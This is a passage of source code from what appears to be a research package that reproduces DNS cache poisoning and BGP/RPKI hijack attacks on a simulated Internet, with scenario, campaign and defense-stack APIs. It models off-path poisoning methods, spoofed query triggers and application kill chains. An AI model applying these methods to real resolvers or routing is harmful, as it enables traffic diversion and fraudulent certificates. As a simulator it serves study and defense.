        return list(self._roas)

    def _serve(self, payload: bytes, src: str) -> bytes:
        listing = [
            {"prefix": str(roa.prefix), "max_length": roa.max_length,
             "origin": roa.origin}
            for roa in self._roas
        ]
        return json.dumps(listing).encode("utf-8")


@dataclass
class FetchLog:
    """Relying-party synchronisation outcomes, for assertions."""

    attempts: int = 0
    successes: int = 0
    failures: int = 0
    last_error: str = ""
    last_address: str = ""


class RelyingParty:
    """The RPKI validator ("RPKI cache") that routers consult.

    ``synchronise`` resolves the repository hostname through the local
    DNS resolver, fetches the ROA listing from whatever address came
    back, and replaces its validated cache with the result.  A failed or
    hijacked fetch leaves the cache *empty* — all announcements then
    validate to ``unknown``, which is precisely the downgrade.
    """

    def __init__(self, host: Host, stub: StubResolver,
                 repository_hostname: str):
        self.host = host
        self.stub = stub
        self.repository_hostname = repository_hostname
        self.validated: list[Roa] = []
        self.log = FetchLog()

    def synchronise(self) -> bool:
        """Fetch ROAs from the repository; returns success."""
        self.log.attempts += 1
        answer = self.stub.lookup(self.repository_hostname, "A")
        address = answer.first_address()
        if address is None:
            self.log.failures += 1
            self.log.last_error = "repository hostname did not resolve"
            self.validated = []
            return False
        self.log.last_address = address
        network = self.host.network
        assert network is not None
        box: dict[str, bytes | None] = {}

        def on_bytes(data: bytes | None) -> None:
            box["data"] = data

        network.stream_request(self.host, address, RPKI_REPO_PORT,
                               b"LIST", on_bytes)
        deadline = network.now + 5.0
        while "data" not in box and network.now < deadline:
            if not network.scheduler.run_next():
                break
        data = box.get("data")
        if not data:
            self.log.failures += 1
            self.log.last_error = f"repository at {address} unreachable"
            self.validated = []
            return False
        try:
            listing = json.loads(data.decode("utf-8"))
            self.validated = [
                Roa(prefix=Prefix.parse(item["prefix"]),
                    max_length=int(item["max_length"]),
                    origin=int(item["origin"]))
                for item in listing
            ]
        except (ValueError, KeyError, TypeError) as exc:
            self.log.failures += 1
            self.log.last_error = f"malformed repository data: {exc}"
            self.validated = []
            return False
        self.log.successes += 1
        return True

    def validate(self, prefix: Prefix | str, origin: int) -> str:
        """Origin-validate an announcement against the validated cache."""
        if isinstance(prefix, str):
            prefix = Prefix.parse(prefix)
        return validate_origin(self.validated, prefix, origin)

    def as_rov_filter(self):
        """A callable suitable for :meth:`BgpSimulation.set_rov_filter`."""
        return lambda prefix, origin: self.validate(prefix, origin)
