"""Gao-Rexford route propagation and selection.

Routes propagate under the standard export policy — routes learned from
customers are exported to everyone; routes learned from peers or
providers are exported only to customers — and each AS selects by local
preference (customer > peer > provider), then shortest AS-path, then a
deterministic tie-break.  This is the same class of simulator the paper
uses for its same-prefix hijack evaluation ([39], Section 5.1.2).
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass

from repro.bgp.prefix import Prefix, PrefixTable
from repro.bgp.topology import AsTopology, Relationship

# Route classes ordered by preference (lower is better).
_PREF = {
    Relationship.CUSTOMER: 0,
    Relationship.PEER: 1,
    Relationship.PROVIDER: 2,
}
_ORIGIN_PREF = -1  # the origin's own route beats everything


@dataclass(frozen=True)
class Route:
    """A selected route at some AS toward an announced prefix."""

    origin: int
    learned_via: Relationship | None  # None when self-originated
    path_length: int                  # AS hops to the origin
    next_hop: int                     # neighbour toward the origin

    @property
    def preference(self) -> int:
        """Gao-Rexford class preference (lower wins)."""
        if self.learned_via is None:
            return _ORIGIN_PREF
        return _PREF[self.learned_via]

    def better_than(self, other: "Route | None") -> bool:
        """Standard decision process against another candidate."""
        if other is None:
            return True
        if self.preference != other.preference:
            return self.preference < other.preference
        if self.path_length != other.path_length:
            return self.path_length < other.path_length
        return (self.origin, self.next_hop) < (other.origin, other.next_hop)


def propagate(topology: AsTopology, origin: int) -> dict[int, Route]:
    """Routes every AS selects for a prefix originated at ``origin``.

    Classic three-phase computation:

    1. customer routes climb provider links from the origin;
    2. peer routes cross one peering link from any customer-routed AS;
    3. provider routes descend customer links from any routed AS.
    """
    routes: dict[int, Route] = {
        origin: Route(origin=origin, learned_via=None, path_length=0,
                      next_hop=origin)
    }
    # Phase 1: customer routes (traffic flows down, announcements flow up).
    queue: deque[int] = deque([origin])
    while queue:
        current = queue.popleft()
        current_route = routes[current]
        if current_route.learned_via not in (None, Relationship.CUSTOMER):
            continue
        for provider in topology.get(current).providers:
            candidate = Route(
                origin=origin, learned_via=Relationship.CUSTOMER,
                path_length=current_route.path_length + 1, next_hop=current,
            )
            existing = routes.get(provider)
            if candidate.better_than(existing):
                routes[provider] = candidate
                queue.append(provider)
    # Phase 2: peer routes (single lateral hop from customer-routed ASes).
    customer_routed = [
        asn for asn, route in routes.items()
        if route.learned_via in (None, Relationship.CUSTOMER)
    ]
    for asn in customer_routed:
        base = routes[asn]
        for peer in topology.get(asn).peers:
            candidate = Route(
                origin=origin, learned_via=Relationship.PEER,
                path_length=base.path_length + 1, next_hop=asn,
            )
            if candidate.better_than(routes.get(peer)):
                routes[peer] = candidate
    # Phase 3: provider routes descend customer links from every routed AS.
    queue = deque(sorted(routes, key=lambda a: routes[a].path_length))
    while queue:
        current = queue.popleft()
        base = routes[current]
        for customer in topology.get(current).customers:
            candidate = Route(
                origin=origin, learned_via=Relationship.PROVIDER,
                path_length=base.path_length + 1, next_hop=current,
            )
            if candidate.better_than(routes.get(customer)):
                routes[customer] = candidate
                queue.append(customer)
    return routes


@dataclass
class Announcement:
    """A prefix announcement by an origin AS."""

    prefix: Prefix
    origin: int


class BgpSimulation:
    """Announcement store + per-AS best-route resolution.

    Multiple origins may announce the same prefix (that *is* a same-prefix
    hijack); :meth:`best_origin` answers which origin a given source AS
    routes toward, and :meth:`forwarding_origin` adds longest-prefix-match
    across different prefixes (sub-prefix hijacks win here).
    """

    def __init__(self, topology: AsTopology):
        self.topology = topology
        self._announcements: list[Announcement] = []
        self._routes_cache: dict[int, dict[int, Route]] = {}
        self._filters: dict[int, object] = {}  # asn -> ROV filter callable

    def announce(self, prefix: Prefix | str, origin: int) -> Announcement:
        """Announce ``prefix`` from ``origin``."""
        if isinstance(prefix, str):
            prefix = Prefix.parse(prefix)
        announcement = Announcement(prefix=prefix, origin=origin)
        self._announcements.append(announcement)
        return announcement

    def withdraw(self, prefix: Prefix | str, origin: int) -> None:
        """Withdraw a previous announcement."""
        if isinstance(prefix, str):
            prefix = Prefix.parse(prefix)
        self._announcements = [
            a for a in self._announcements
            if not (a.prefix == prefix and a.origin == origin)
        ]

    def set_rov_filter(self, asn: int, validator) -> None:
        """Install route-origin validation at ``asn``.

        ``validator(prefix, origin)`` must return one of the strings
        'valid', 'invalid', 'unknown'; announcements validating to
        'invalid' are ignored by this AS.  This is the enforcement the
        RPKI downgrade attack switches off.
        """
        self._filters[asn] = validator

    def routes_from(self, origin: int) -> dict[int, Route]:
        """Cached Gao-Rexford propagation from one origin."""
        if origin not in self._routes_cache:
            self._routes_cache[origin] = propagate(self.topology, origin)
        return self._routes_cache[origin]

    def invalidate_cache(self) -> None:
        """Drop propagation caches (topology changed)."""
        self._routes_cache.clear()

    def _acceptable(self, source: int, announcement: Announcement) -> bool:
        validator = self._filters.get(source)
        if validator is None:
            return True
        return validator(announcement.prefix, announcement.origin) != "invalid"

    def best_origin(self, source: int, prefix: Prefix | str) -> int | None:
        """Which origin ``source`` routes to for exactly ``prefix``."""
        if isinstance(prefix, str):
            prefix = Prefix.parse(prefix)
        best: Route | None = None
        for announcement in self._announcements:
            if announcement.prefix != prefix:
                continue
            if not self._acceptable(source, announcement):
                continue
            route = self.routes_from(announcement.origin).get(source)
            if route is not None and route.better_than(best):
                best = route
        return best.origin if best is not None else None

    def forwarding_origin(self, source: int, address: str) -> int | None:
        """Where packets from ``source`` to ``address`` end up (origin AS).

        Longest-prefix match across all announcements first, then the
        route decision process among origins of that most-specific
        prefix.
        """
        table = PrefixTable()
        for announcement in self._announcements:
            if not announcement.prefix.contains_ip(address):
                continue
            if not self._acceptable(source, announcement):
                continue
            route = self.routes_from(announcement.origin).get(source)
            if route is None:
                continue
            existing = table.lookup(address)
            if existing is not None and existing[0] == announcement.prefix:
                previous: Route = existing[1]  # type: ignore[assignment]
                if not route.better_than(previous):
                    continue
            table.insert(announcement.prefix, route)
        match = table.lookup(address)
        if match is None:
            return None
        route = match[1]
        assert isinstance(route, Route)
        return route.origin
