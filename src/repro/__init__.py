"""crosslayer-repro: a reproduction of "From IP to Transport and Beyond:
Cross-Layer Attacks Against Applications" (SIGCOMM 2021).

The package implements, on a byte-accurate simulated Internet:

* the three off-path DNS cache poisoning methodologies the paper
  evaluates — HijackDNS (BGP prefix hijack), SadDNS (ICMP rate-limit
  side channel) and FragDNS (IPv4 fragment injection) — in
  :mod:`repro.attacks`;
* a unified scenario/campaign API (:mod:`repro.scenario`): declarative
  :class:`AttackScenario` specs, a methodology registry, the
  planner-to-execution bridge (:func:`plan_and_run`), and a parallel
  multi-seed :class:`Campaign` runner;
* every substrate they need: an IPv4/UDP/ICMP network stack with
  fragmentation and rate limiting (:mod:`repro.netsim`), a full DNS
  ecosystem (:mod:`repro.dns`), and interdomain routing with RPKI
  (:mod:`repro.bgp`);
* the application victims of Table 1 (:mod:`repro.apps`), each with a
  kill-chain driver so any scenario can carry an :class:`AppSpec` stage
  and measure *application impact* (fraudulent certificates, security
  downgrades, account takeovers), not just cache state;
* the Internet-scale measurement study of Section 5
  (:mod:`repro.measurements`) and the Section 6 mitigations as a
  composable defense-stack API (:mod:`repro.defenses`): picklable
  :class:`Defense` specs with pure world-config transforms, stackable
  across layers (``ip``/``transport``/``dns``/``bgp``/``app``) into a
  :class:`DefenseStack` that any scenario, campaign, planner verdict or
  atlas calibration consumes (:mod:`repro.countermeasures` remains as a
  thin deprecation shim);
* an experiment registry regenerating every table and figure
  (:mod:`repro.experiments`);
* the attack-surface atlas (:mod:`repro.atlas`): sharded synthesis and
  parallel scanning of the *full* paper populations (1.58M open
  resolvers, 1M domains) with a resumable on-disk result store and a
  campaign bridge validating planner verdicts at population scale;
* a traffic-workload engine (:mod:`repro.workload`): a deterministic
  benign client population (Zipf-ranked domains, Poisson arrivals,
  trace replay) querying the victim resolver *during* the attack, so
  every scenario can measure cache churn, the window of opportunity,
  benign-client latency, and poisoned answers actually served;
* an append-only run store (:mod:`repro.store`): every campaign cell
  keyed by ``(scenario spec hash, seed, defense stack)`` in WAL-mode
  SQLite, so killed sweeps resume idempotently (only missing cells
  recompute, bit-identically) and summaries reconstruct from the store
  without re-running — plus a service mode (:mod:`repro.serve`)
  queueing submitted campaigns into the store over HTTP;
* deterministic fault injection and graceful degradation
  (:mod:`repro.faults`): declarative :class:`FaultPlan` network
  impairments (loss, latency, jitter, reordering, duplication) drawn
  from their own seed-derived RNG stream — a no-op plan is
  bit-identical to a clean run — plus a :class:`RunPolicy` execution
  contract (scheduler event/wall budgets, retry-with-backoff for
  transients) under which a raising cell becomes a *recorded failure*
  in the campaign and store instead of killing the sweep, and a chaos
  harness (crash/flaky seeds, scheduled store-write failures, serve
  worker crashes) that makes the resilience paths testable;
* a zero-cost observability plane (:mod:`repro.obs`): mergeable
  counters/gauges/histograms, run-correlated span tracing across
  process workers, per-stage profiling hooks and a Prometheus
  ``GET /metrics`` endpoint in service mode — disabled by default
  under the ``NullLog`` discipline, so instrumentation never changes
  a statistic: every output is bit-identical with the plane off or
  on.

Quickstart::

    from repro import AttackScenario, Campaign

    # One attack, declaratively: methodology + target + trigger.
    run = AttackScenario(method="hijack").run(seed=1)
    print(run.result.describe())

    # Statistics: sweep any scenario across seeds on worker processes.
    sweep = Campaign().run(AttackScenario(method="frag"),
                           seeds=range(32), workers=8)
    print(sweep.describe())

    # Planner-driven: Table 1 reasoning picks the methodology, then
    # executes it.
    from repro import TargetProfile, plan_and_run
    profile = TargetProfile(app_name="HTTP", query_name_known=True,
                            query_name_choosable=True,
                            trigger_style="direct")
    print(plan_and_run(profile, seed=2).result.describe())

    # The full kill chain: attack -> poisoned cache -> application.
    from repro import AppSpec
    chain = AttackScenario(method="hijack", app_spec=AppSpec(app="dv"),
                           trigger=TriggerSpec(kind="app")).run(seed=3)
    print(chain.app_result.describe())   # fraud. certificate issued
    # Sweep all Table 1 applications: Campaign().run(
    #     killchain_scenarios(), seeds=range(16)) — or from the shell:
    # ``python -m repro.scenario sweep --apps all``.

    # Defenses are first-class, stackable scenario citizens: the same
    # scenario, defended, measures the *residual* attack surface.
    from repro import DefenseStack
    stack = DefenseStack.of("0x20-encoding", "rpki-rov")
    defended = AttackScenario(method="hijack", defenses=stack).run(seed=3)
    print(defended.success)              # False: ROV filtered the hijack
    grid = Campaign().run_defended(killchain_scenarios(apps=("dv",)),
                                   stacks=[stack, "dnssec"],
                                   seeds=range(8))
    print(grid.describe())               # residual success/impact per stack
    # Shell: ``python -m repro.scenario run --defend rpki-rov`` and
    # ``python -m repro.atlas calibrate --defend dnssec`` (deployment
    # projection at population scale).

    # Under load: a benign client population shares the resolver with
    # the attack, and the run reports what those clients experienced.
    from repro.workload import WorkloadSpec
    loaded = AttackScenario(
        method="frag",
        workload=WorkloadSpec(qps=40, victim_ttl=6)).run(seed=4)
    print(loaded.load_report.describe())  # latency, hit rate, window,
    #                                       poisoned answers served
    # Shell: ``python -m repro.workload replay --method frag --qps 40``
    # (plus ``synth`` / ``inspect`` / ``report`` for query traces).

    # Durable sweeps: attach a run store and every cell is recorded as
    # it completes; re-running the same call (after a crash, on another
    # executor, from another process) loads stored cells instead of
    # recomputing them — bit-identical aggregates either way.
    sweep = Campaign().run_defended(killchain_scenarios(apps=("dv",)),
                                    stacks=["dnssec"], seeds=range(8),
                                    store="runs.db")
    sweep = Campaign().run_defended(killchain_scenarios(apps=("dv",)),
                                    stacks=["dnssec"], seeds=range(8),
                                    store="runs.db")   # instant resume
    from repro.store import RunStore, campaign_from_store
    print(campaign_from_store(RunStore("runs.db")).describe())
    # Shell: ``python -m repro.scenario sweep --store runs.db``,
    # ``python -m repro.atlas calibrate --run-store runs.db`` and
    # ``python -m repro.store inspect runs.db``.

    # Service mode: an HTTP job queue draining campaigns into the same
    # store (stdlib-only; see ``python -m repro.serve -h``)::
    #
    #   python -m repro.serve --store runs.db --port 8737 &
    #   curl -d '{"methods": ["hijack"], "seeds": 8}' :8737/jobs
    #   curl ':8737/aggregate?by=method'

    # Degraded paths: impair the resolver<->NS link deterministically
    # (fault draws never shift attack randomness — an empty plan is
    # bit-identical to no plan), and run under a policy that records
    # failing cells instead of killing the sweep.
    from repro import FaultPlan, RunPolicy
    lossy = FaultPlan.link("30.0.0.1", "123.0.0.53",
                           loss=0.02, extra_latency=0.04)
    run = AttackScenario(method="saddns", faults=lossy).run(seed=5)
    print(run.result.detail["faults"])   # dropped/delayed/duplicated
    sweep = Campaign(policy=RunPolicy(max_events=10_000_000,
                                      retries=2)).run(
        AttackScenario(method="hijack", faults=lossy),
        seeds=range(16), store="runs.db")
    print(sweep.failures)                # recorded, not raised; a
    #                                      re-run re-executes only them
    # Shell: ``python -m repro.faults --method hijack --seeds 8
    # --impair 'dst=123.0.0.53,loss=0.02,latency=0.04'``.

    # Watch it run: enable the obs plane (free when off — statistics
    # are bit-identical either way) and the same sweep emits mergeable
    # metrics and a sweep -> batch -> cell span tree, fleet-wide even
    # on the process executor.
    from repro import obs
    obs.enable()                              # or REPRO_OBS=1
    sweep = Campaign(executor="process").run(
        AttackScenario(method="hijack"), seeds=range(16))
    print(obs.OBS.registry.value("campaign.sweeps_total"))    # 1
    obs.OBS.spans.export_jsonl("trace.jsonl")
    # Shell: ``python -m repro.obs tail trace.jsonl`` renders the
    # tree; ``python -m repro.serve`` (obs on by default) exposes the
    # live registry at ``GET /metrics``, and ``python -m repro.obs
    # snapshot --url http://127.0.0.1:8737`` / ``diff`` scrape it.

Atlas quickstart — Section 5 at the paper's full dataset sizes::

    from repro.atlas import AtlasStore, find_dataset, scan_dataset

    spec = find_dataset("open")                  # 1.58M open resolvers
    report = scan_dataset(spec, shards=16, workers="auto",
                          store=AtlasStore(".atlas-store"))
    print(report.summary.percentages)            # Table 3 'open' row
    # Interrupted?  Re-run the same call: only missing shards compute.
    # ``workers="auto"`` (or ``--workers auto`` on any CLI) resolves to
    # the schedulable CPU count; ``REPRO_WORKERS`` overrides it.  The
    # scan runs the batch-vectorised kernel when numpy is present and a
    # bit-identical pure-Python fallback otherwise; results never
    # depend on kernel, worker count or completion order.

    # Multi-host: point claim-mode workers at one shared store — each
    # leases shards atomically, killed workers' leases expire, and the
    # coordinator merge equals an uninterrupted serial scan::
    #
    #   python -m repro.parallel claim --dataset open --store S &  # xN
    #   python -m repro.parallel merge --dataset open --store S

    # Validate the planner against the scanned strata end-to-end:
    from repro.atlas import calibrate_population
    print(calibrate_population(report.aggregate, "open",
                               sample_budget=24).describe())

Shell equivalent: ``python -m repro.atlas scan --entities 1580000
--shards 16 --store .atlas-store`` (see ``python -m repro.atlas -h``
for ``synth`` / ``calibrate`` / ``report``).
"""

from repro.attacks.planner import TargetProfile
from repro.defenses import Defense, DefenseStack
from repro.faults import FaultPlan, ImpairmentSpec, RunPolicy
from repro.scenario import (
    AppSpec,
    AttackScenario,
    Campaign,
    CampaignResult,
    ScenarioRun,
    TriggerSpec,
    killchain_scenarios,
    plan_and_run,
    scenario_from_profile,
)
from repro.store import RunStore
from repro.testbed import Testbed, standard_testbed

__version__ = "1.0.0"

__all__ = [
    "AppSpec",
    "AttackScenario",
    "Campaign",
    "CampaignResult",
    "Defense",
    "DefenseStack",
    "FaultPlan",
    "ImpairmentSpec",
    "RunPolicy",
    "RunStore",
    "ScenarioRun",
    "TargetProfile",
    "Testbed",
    "TriggerSpec",
    "__version__",
    "killchain_scenarios",
    "plan_and_run",
    "scenario_from_profile",
    "standard_testbed",
]
