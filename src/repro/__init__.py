"""crosslayer-repro: a reproduction of "From IP to Transport and Beyond:
Cross-Layer Attacks Against Applications" (SIGCOMM 2021).

The package implements, on a byte-accurate simulated Internet:

* the three off-path DNS cache poisoning methodologies the paper
  evaluates — HijackDNS (BGP prefix hijack), SadDNS (ICMP rate-limit
  side channel) and FragDNS (IPv4 fragment injection) — in
  :mod:`repro.attacks`;
* every substrate they need: an IPv4/UDP/ICMP network stack with
  fragmentation and rate limiting (:mod:`repro.netsim`), a full DNS
  ecosystem (:mod:`repro.dns`), and interdomain routing with RPKI
  (:mod:`repro.bgp`);
* the application victims of Table 1 (:mod:`repro.apps`);
* the Internet-scale measurement study of Section 5
  (:mod:`repro.measurements`) and the countermeasures of Section 6
  (:mod:`repro.countermeasures`);
* an experiment registry regenerating every table and figure
  (:mod:`repro.experiments`).

Quickstart::

    from repro.testbed import standard_testbed, RESOLVER_IP, SERVICE_IP
    from repro.attacks import (HijackDnsAttack, OffPathAttacker,
                               SpoofedClientTrigger)

    world = standard_testbed(seed=1)
    attacker = OffPathAttacker(world["attacker"])
    trigger = SpoofedClientTrigger(world["attacker"], RESOLVER_IP,
                                   SERVICE_IP)
    attack = HijackDnsAttack(attacker, world["testbed"].network,
                             world["resolver"], "vict.im", "123.0.0.53",
                             malicious_records=[])
    result = attack.execute(trigger)
    print(result.describe())
"""

from repro.testbed import Testbed, standard_testbed

__version__ = "1.0.0"

__all__ = ["Testbed", "__version__", "standard_testbed"]
