"""Declarative attack scenarios: one value object describes one attack.

An :class:`AttackScenario` captures everything needed to run one of the
paper's poisoning methodologies against the standard testbed — the
methodology name, the queried name, the trigger, the malicious records,
and any resolver/nameserver configuration overrides — as plain,
picklable data.  ``scenario.build()`` materialises a world and wires the
right attack class through the method registry; ``scenario.run(seed)``
does the whole thing in one call.  Because the object is pure data, a
:class:`repro.scenario.campaign.Campaign` can ship it to worker
processes and sweep it across seeds and config grids.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field, fields, replace
from typing import Any, Callable, Iterable

from repro.apps.driver import AppDriver, AppSpec, AppStageResult
from repro.attacks.base import AttackResult, OffPathAttacker
from repro.attacks.trigger import (
    CallableTrigger,
    OpenResolverTrigger,
    QueryTrigger,
    SpoofedClientTrigger,
)
from repro.core.errors import ScenarioError
from repro.defenses.base import DefenseStack, WorldConfig
from repro.dns.nameserver import NameserverConfig
from repro.faults.spec import FaultPlan
from repro.dns.records import TYPE_A, ResourceRecord
from repro.dns.resolver import ResolverConfig
from repro.netsim.host import HostConfig
from repro.obs import OBS
from repro.obs.profile import observe_scheduler
from repro.testbed import SERVICE_IP, TARGET_DOMAIN, standard_testbed
from repro.workload.population import WorkloadSpec
from repro.workload.report import LoadReport


@dataclass
class TriggerSpec:
    """How the attacker makes the victim resolver issue its query.

    Declarative counterpart of :mod:`repro.attacks.trigger`: the spec is
    data (picklable, sweepable); :meth:`build` turns it into the live
    trigger object once a world exists.

    Kinds:

    * ``"spoofed-client"`` — spoof a query from ``client_ip`` inside the
      resolver's ACL (the Figure 1 trigger; the default).
    * ``"open-resolver"`` — query the resolver directly from the
      attacker's own address (Section 4.3.3 open forwarders).
    * ``"app"`` — the scenario's application stage fires the query in
      its own style (bounce, discovery, fetch); needs an ``app_spec``
      on the scenario.  Fully declarative, so app scenarios pickle to
      process workers like any other.
    * ``"callable"`` — an application-provided function whose side
      effect is the query.  Callables are generally not picklable;
      campaigns fall back to in-process execution for them.  App
      scenarios use ``"app"`` instead — no fallback on that path.
    """

    kind: str = "spoofed-client"
    client_ip: str = SERVICE_IP
    fn: Callable[[str, int | str], None] | None = None
    style: str = "application"
    cadence_seconds: float | None = None

    def build(self, world: dict, attacker: OffPathAttacker,
              app_stage: tuple[AppDriver, dict] | None = None
              ) -> QueryTrigger:
        """Instantiate the live trigger against a built world."""
        resolver_ip = world["resolver"].address
        if self.kind == "spoofed-client":
            return SpoofedClientTrigger(
                world["attacker"], resolver_ip, self.client_ip,
                rng=attacker.rng.derive("trigger"),
            )
        if self.kind == "open-resolver":
            return OpenResolverTrigger(
                world["attacker"], resolver_ip,
                rng=attacker.rng.derive("trigger"),
            )
        if self.kind == "app":
            if app_stage is None:
                raise ScenarioError(
                    "trigger kind 'app' needs an app_spec on the scenario")
            driver, ctx = app_stage
            return driver.query_trigger(ctx)
        if self.kind == "callable":
            if self.fn is None:
                raise ScenarioError(
                    "trigger kind 'callable' needs a trigger function")
            return CallableTrigger(self.fn, style=self.style,
                                   cadence_seconds=self.cadence_seconds)
        raise ScenarioError(f"unknown trigger kind: {self.kind!r}")


@dataclass
class ScenarioRun:
    """One scenario executed on one seed.

    ``app_result`` carries the application stage of a kill-chain
    scenario (None when the scenario had no ``app_spec``).
    """

    label: str
    method: str
    seed: Any
    result: AttackResult
    wall_time: float = 0.0
    app_result: AppStageResult | None = None
    # The scenario's deployed defense-stack key ("none" when undefended)
    # — what lets campaign aggregation pivot on (method x defense).
    defense: str = "none"
    # What the benign client population experienced during the run
    # (None when the scenario carried no workload, or its qps was 0).
    load_report: LoadReport | None = None
    # Non-empty when the cell could not run: the one-line failure a
    # RunPolicy recorded instead of killing the grid (the attack
    # statistics are then all zero).  See repro.faults.failed_run.
    error: str = ""

    # -- flattened conveniences for aggregation --------------------------------

    @property
    def success(self) -> bool:
        return self.result.success

    @property
    def packets_sent(self) -> int:
        return self.result.packets_sent

    @property
    def queries_triggered(self) -> int:
        return self.result.queries_triggered

    @property
    def duration(self) -> float:
        """Virtual (simulated) attack duration in seconds."""
        return self.result.duration

    @property
    def iterations(self) -> int:
        return self.result.iterations

    @property
    def impact_realized(self) -> bool:
        """Did the application stage demonstrate its Table 1 impact?"""
        return self.app_result is not None and self.app_result.realized

    @property
    def failed(self) -> bool:
        """Whether this cell failed to execute (vs. the attack merely
        not succeeding)."""
        return bool(self.error)

    @property
    def status(self) -> str:
        """``"ok"`` for executed cells, ``"failed"`` for recorded
        failures — the run store's status column."""
        return "failed" if self.error else "ok"

    def describe(self) -> str:
        if self.error:
            return f"[seed={self.seed}] {self.method}: ERROR {self.error}"
        line = f"[seed={self.seed}] {self.result.describe()}"
        if self.app_result is not None:
            line += f"\n  app stage: {self.app_result.describe()}"
        if self.load_report is not None:
            report = self.load_report
            line += (
                f"\n  load: {report.offered} queries at"
                f" {report.offered_qps:.1f} qps, p50"
                f" {report.latency_percentile_ms(0.50):.1f} ms, window"
                f" open {report.window_fraction * 100:.1f}%,"
                f" {report.poisoned_answers} poisoned answers")
        return line


@dataclass
class AttackScenario:
    """Everything needed to run one poisoning attack, as plain data.

    ``method`` is a registry name (``"HijackDNS"``, ``"SadDNS"``,
    ``"FragDNS"`` or an alias like ``"hijack"``/``"frag"``); the other
    fields override the standard testbed and the attack defaults.  Any
    field left at its default is filled in by the method's registered
    defaults (e.g. a SadDNS scenario gets a rate-limited nameserver, a
    FragDNS scenario a global-IP-ID nameserver and the long qname whose
    answer spills into the second fragment).
    """

    method: str
    qname: str | None = None
    target_domain: str = TARGET_DOMAIN
    trigger: TriggerSpec = field(default_factory=TriggerSpec)
    malicious_records: tuple[ResourceRecord, ...] = ()
    attack_config: Any = None
    # -- standard_testbed overrides (None = method/testbed default) ------------
    resolver_config: ResolverConfig | None = None
    ns_config: NameserverConfig | None = None
    ns_host_config: HostConfig | None = None
    resolver_host_config: HostConfig | None = None
    signed_target: bool = False
    extra_target_records: tuple[ResourceRecord, ...] = ()
    # -- deployed defenses -----------------------------------------------------
    # A DefenseStack applied to the world config after the method
    # defaults fill in: pure transforms, so the scenario's own config
    # objects are never mutated.  A BGP-layer ROV member additionally
    # deploys real RPKI validation onto the built world.
    defenses: DefenseStack | None = None
    # -- the application stage of the kill chain -------------------------------
    # When set, build() wires the named app driver into the world before
    # the attack and execute() runs its workload after it, so the run
    # measures application impact, not just cache state.
    app_spec: AppSpec | None = None
    # -- benign traffic load ---------------------------------------------------
    # When set, build() compiles the client population into scheduler
    # events on the world's clock and execute() runs the load around the
    # attack: warmup primes the cache, arrivals interleave with attack
    # traffic, and the run carries a LoadReport.  A qps=0 workload
    # compiles to an empty trace and reproduces the idle world exactly.
    workload: WorkloadSpec | None = None
    # -- degraded fabric -------------------------------------------------------
    # When set, make_world() compiles the plan's impairments onto the
    # network with a seed-derived RNG stream (repro.faults) and applies
    # its chaos schedule (crash/flaky seeds raise at build time).  A
    # no-op plan installs nothing and reproduces the clean run bit for
    # bit; the plan is part of the scenario's spec hash, so the run
    # store keys impaired and clean runs distinctly.
    faults: FaultPlan | None = None
    # -- metadata --------------------------------------------------------------
    app: str | None = None             # application victim (Table 1 row)
    capture_possible: bool = True      # HijackDNS control-plane outcome
    label: str | None = None
    planner_notes: tuple[str, ...] = ()
    # Scenario runs are statistical (campaigns sweep thousands of
    # seeds), so worlds default to the untraced NullLog fast path.
    # Instrumented runs — the Figure 1/2 sequence charts — set
    # ``trace=True`` to get a recording EventLog back.
    trace: bool = False

    # -- derived ---------------------------------------------------------------

    @property
    def canonical_method(self) -> str:
        """The registry's canonical name for :attr:`method`."""
        from repro.scenario.registry import resolve_method

        return resolve_method(self.method).name

    @property
    def defense_key(self) -> str:
        """Canonical key of the deployed stack (``"none"`` if none)."""
        return self.defenses.key if self.defenses is not None else "none"

    def with_defenses(self, *defenses: Any) -> "AttackScenario":
        """A copy defended by exactly the given defenses (names or
        instances) — any previously attached stack is replaced."""
        return replace(self, defenses=DefenseStack.of(*defenses))

    @property
    def app_name(self) -> str | None:
        """The application this scenario attacks, if any."""
        if self.app is not None:
            return self.app
        return self.app_spec.app if self.app_spec is not None else None

    @property
    def display_label(self) -> str:
        return self.label if self.label is not None else (
            f"{self.canonical_method}:{self.target_domain}"
            + (f" [{self.app_name}]" if self.app_name else "")
        )

    def planted_address(self, attacker_address: str) -> str:
        """The address the attack's planted A record maps the qname to."""
        from repro.dns import names

        qname = self.effective_qname()
        for record in self.malicious_records:
            if record.rtype == TYPE_A and names.same_name(record.name,
                                                          qname):
                return record.data
        return attacker_address

    def effective_qname(self) -> str:
        """The name the attack races (method default when unset)."""
        if self.qname is not None:
            return self.qname
        from repro.scenario.registry import resolve_method

        return resolve_method(self.method).default_qname(self)

    # -- materialisation -------------------------------------------------------

    def make_world(self, seed: Any = 0) -> dict:
        """Build the standard testbed with this scenario's overrides.

        Overrides the user left unset fall back to the registered
        method defaults, so ``AttackScenario("saddns")`` runs against a
        rate-limited nameserver without further ceremony.
        """
        from repro.scenario.registry import resolve_method

        if self.faults is not None:
            from repro.faults.chaos import maybe_crash

            maybe_crash(self.faults, self.display_label, seed)
        spec = resolve_method(self.method)
        kwargs: dict[str, Any] = {
            "resolver_config": self.resolver_config,
            "ns_config": self.ns_config,
            "ns_host_config": self.ns_host_config,
            "resolver_host_config": self.resolver_host_config,
        }
        for key, value in spec.world_defaults(self).items():
            if key not in kwargs:
                raise ScenarioError(
                    f"{spec.name} world_defaults names {key!r}; only the"
                    f" config knobs {sorted(kwargs)} can default per"
                    " method")
            if kwargs[key] is None:
                kwargs[key] = value
        config = WorldConfig(signed_target=self.signed_target, **kwargs)
        if self.defenses is not None:
            # Pure transforms: the scenario's own config objects (and
            # anything the caller shared into them) stay untouched.
            config = self.defenses.apply(config)
        world = standard_testbed(seed=seed, trace=self.trace,
                                 **config.testbed_kwargs())
        if config.rov is not None:
            # BGP-layer defense: relying parties hold validated ROAs
            # covering the target; the hijack announcement is origin-
            # validated for real (repro.bgp.rpki) before it can divert.
            world["rov"] = config.rov.deploy(world)
        for record in self.extra_target_records:
            world["target"].zone.add(record)
        if self.faults is not None and self.faults.active_impairments:
            from repro.faults.inject import install_plan

            install_plan(self.faults, world)
        return world

    def build(self, *, world: dict | None = None, seed: Any = 0
              ) -> "BuiltScenario":
        """Materialise the scenario: world, attacker, trigger, attack.

        Both parameters are keyword-only: ``build(7)`` would otherwise
        silently bind a seed to ``world`` and fail far from the call.
        """
        from repro.scenario.registry import resolve_method

        spec = resolve_method(self.method)
        if self.attack_config is not None and not isinstance(
                self.attack_config, spec.config_cls):
            raise ScenarioError(
